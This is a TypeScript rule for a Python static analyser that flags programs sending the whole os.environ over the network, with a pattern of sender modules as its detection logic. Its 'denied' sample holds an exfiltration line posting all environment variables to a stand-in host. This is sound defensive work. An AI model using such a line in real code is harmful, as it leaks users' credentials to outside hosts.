import { descendantsOf } from '../../parse/syntax-tree.ts';
import type { PythonRule } from '../../rule.ts';

const senders = /^(?:requests|httpx|urllib|http|aiohttp|socket|smtplib|ftplib)\b/;

export const environmentLeak: PythonRule = {
  id: 'py-environment-leak',
  severity: 'high',
  title: 'It sends the environment away.',
  cause: 'Credentials are passed in the environment, so that is what a thief takes first.',
  explanation: '`os.environ` as a whole in a program that sends data. Single variables are fine.',
  hint: 'Print what you compute; leave the environment alone.',
  denied: 'import os, requests\nrequests.post("http://a.example", json=dict(os.environ))\n',
  allowed: 'import os\nprint(os.environ["HOME"])\n',
  *find({ calls, byType, usesNetwork }) {
    if (
      !usesNetwork ||
      !calls.some(({ reference }) => senders.test(reference) || /send|post/.test(reference))
    )
      return;
    for (const type of ['call', 'dictionary_comprehension', 'binary_operator', 'interpolation']) {
      for (const node of byType.get(type) ?? []) {
        const inside = descendantsOf(node, 60).find(
          (part) =>
            part.reference === 'os.environ' &&
            part.parent?.type !== 'subscript' &&
            part.parent?.type !== 'attribute',
        );
        const items =
          inside ??
          descendantsOf(node, 60).find((part) =>
            /^os\.environ\.(?:items|copy|values)$/.test(part.reference ?? ''),
          );
        if (items !== undefined) {
          yield { node: items };
          return;
        }
      }
    }
  },
};
